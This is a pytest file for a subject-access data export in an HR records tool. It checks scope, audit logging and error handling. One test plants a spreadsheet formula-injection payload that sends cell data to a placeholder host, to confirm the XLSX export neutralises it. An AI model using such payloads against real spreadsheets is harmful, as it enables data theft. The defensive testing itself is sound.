"""A person's export for a subject-access request: all their data, nobody else's, logged."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select, update

from binhdang.accounts.tables import audit_log
from binhdang.errors import BinhdangError
from binhdang.privacy.export import export_person, subject_data
from binhdang.store.tables import person
from tests.helpers import run_cli
from tests.privacy.conftest import L1, L2, Office

NOW = datetime(2026, 12, 1, 8, 0, tzinfo=UTC)


def exports_logged(engine: Engine) -> list[tuple[str, str | None, str | None, dict]]:  # type: ignore[type-arg]
    with engine.connect() as connection:
        rows = connection.execute(
            select(audit_log).where(audit_log.c.action == "privacy.export").order_by(audit_log.c.id)
        )
        return [(r.actor, r.target, r.unit_code, json.loads(r.detail)) for r in rows]


def test_everything_about_the_person_and_nothing_else(office: Office) -> None:
    with office.engine.connect() as connection:
        data = subject_data(connection, L1[0])
    assert data["person"] == {
        "staff_code": L1[0],
        "full_name": L1[1],
        "sex": "F",
        "birth_date": "1979-10-01",
        "ethnicity": "Tày",
        "insurance_number": None,
        "citizen_id": None,
    }
    # the 2019 list's period, ended by the 2020 list; Phòng A was renamed on 01/01/2021 (after)
    assert [
        (p["unit"], p["valid_from"], p["valid_to"], p["unit_name"]) for p in data["employment"]
    ] == [("A", "2019-10-01", "2020-10-01", "Phòng A")]
    assert [(p["title"], p["level"], p["valid_to"]) for p in data["position"]] == [
        ("Phó Trưởng phòng", "deputy", "2020-10-01")
    ]
    assert [r["course_name"] for r in data["committee_training"]] == ["Trung cấp LLCT khóa 12"]
    assert [(r["decision_number"], r["unit"]) for r in data["committee_award"]] == [
        ("15/QĐ-BHXH", None)  # the collective award to Phòng A is not hers
    ]
    assert [(r["unit"], r["post"]) for r in data["committee_succession"]] == [("A", "Trưởng phòng")]
    assert [r["movement"] for r in data["committee_movement_participant"]] == [
        "Phong trào Phụ nữ tích cực học tập"
    ]
    assert [(r["leave_start"], r["birth_order"]) for r in data["maternity_leave"]] == [
        ("2019-09-01", 1)
    ]
    assert [(r["action"], r["unit"]) for r in data["audit_log"]] == [("person.view", "A")]
    body = json.dumps(data, ensure_ascii=False)
    for other in ("S3", "Lê Thị Hồng", "Đặng Thị Ánh", "hoa", "10.0.0.7", "Tập thể"):
        assert other not in body  # no other person's data, not even who looked


def test_a_period_spanning_a_renaming_has_both_names(office: Office) -> None:
    with office.engine.connect() as connection:
        data = subject_data(connection, L2[0])
    assert [(p["unit"], p["valid_to"], p["unit_names"]) for p in data["employment"]] == [
        ("A1", "2021-10-01", ["Tổ A1"])
    ]
    with office.engine.connect() as connection:
        s2 = subject_data(connection, "S2")
    assert s2["employment"][0]["unit_names"] == ["Phòng A", "Phòng A mới"]
    assert s2["employment"][0]["valid_to"] is None  # still employed


def test_json_export_through_the_cli_is_logged(
    office: Office, capsys: pytest.CaptureFixture[str], db_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "roi01.json"
    result = run_cli(
        capsys,
        "privacy",
        "export",
        "--person",
        L1[0],
        "--out",
        str(out),
        "--actor",
        "lan",
        "--db",
        db_url,
    )
    assert result.code == 0, result.err
    body = json.loads(out.read_text(encoding="utf-8"))
    assert body["person"]["full_name"] == L1[1] and body["format"] == "binhdang.subject_access/1"
    assert "Luật 91/2025/QH15" in body["note"]
    logged = exports_logged(office.engine)
    assert logged == [("lan", L1[0], "A", {"format": "json", "rows": 9})]
    assert L1[1] not in json.dumps(logged, ensure_ascii=False)  # who and whom, never the data


def test_xlsx_export_is_formula_safe(office: Office, tmp_path: Path) -> None:
    with office.engine.begin() as connection:
        connection.execute(
            update(person)
            .where(person.c.staff_code == L2[0])
            .values(full_name='=HYPERLINK("http://x.example/?"&A1)')
        )
    out = tmp_path / "roi02.xlsx"
    rows = export_person(
        office.engine, L2[0], out, fmt="xlsx", actor_name="lan", now=NOW, lang="en"
    )
    workbook = load_workbook(out)
    assert workbook.sheetnames == [
        "Person",
        "Employment",
        "Positions",
        "Awards",
        "Committee member",
        "Movements",
        "Succession",
        "Training",
        "Maternity leave",
        "Audit log",
    ]
    cells = {row[0].value: row[1] for row in workbook["Person"].iter_rows(min_row=2)}
    assert cells["full_name"].data_type == "s" and cells["full_name"].quotePrefix
    assert cells["full_name"].value.startswith("=HYPERLINK")
    assert workbook["Employment"].cell(2, 1).value == "A1"
    assert rows == 1 + 1 + 0 + 1  # the person, one period, no post, one succession plan
    assert exports_logged(office.engine)[0][3] == {"format": "xlsx", "rows": rows}


def test_unknown_person_writes_and_logs_nothing(
    office: Office, capsys: pytest.CaptureFixture[str], db_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "x.json"
    result = run_cli(
        capsys,
        "privacy",
        "export",
        "--person",
        "NOBODY",
        "--out",
        str(out),
        "--db",
        db_url,
        "--lang",
        "en",
    )
    assert result.code == 1 and "NOBODY" in result.err and "Traceback" not in result.err
    assert not out.exists() and exports_logged(office.engine) == []


def test_unwritable_file_logs_nothing(office: Office, tmp_path: Path) -> None:
    with pytest.raises(BinhdangError) as excinfo:
        export_person(
            office.engine,
            L1[0],
            tmp_path / "no-such-folder" / "x.json",
            fmt="json",
            actor_name="lan",
            now=NOW,
        )
    assert excinfo.value.message.key == "file.write_failed"
    assert exports_logged(office.engine) == []


def test_bad_format_is_refused(
    office: Office, capsys: pytest.CaptureFixture[str], db_url: str, tmp_path: Path
) -> None:
    result = run_cli(
        capsys,
        "privacy",
        "export",
        "--person",
        L1[0],
        "--format",
        "pdf",
        "--out",
        str(tmp_path / "x.pdf"),
        "--db",
        db_url,
    )
    assert result.code == 1 and "json, xlsx" in result.err
    assert exports_logged(office.engine) == []


def test_the_actor_defaults_to_the_os_user(
    office: Office,
    capsys: pytest.CaptureFixture[str],
    db_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("LOGNAME", "nhan_su")  # getpass.getuser() reads it first
    out = tmp_path / "s4.xlsx"
    result = run_cli(
        capsys, "privacy", "export", "--person", "S4", "--out", str(out), "--db", db_url
    )
    assert result.code == 0 and out.exists()
    assert exports_logged(office.engine)[0][:3] == ("nhan_su", "S4", "B")
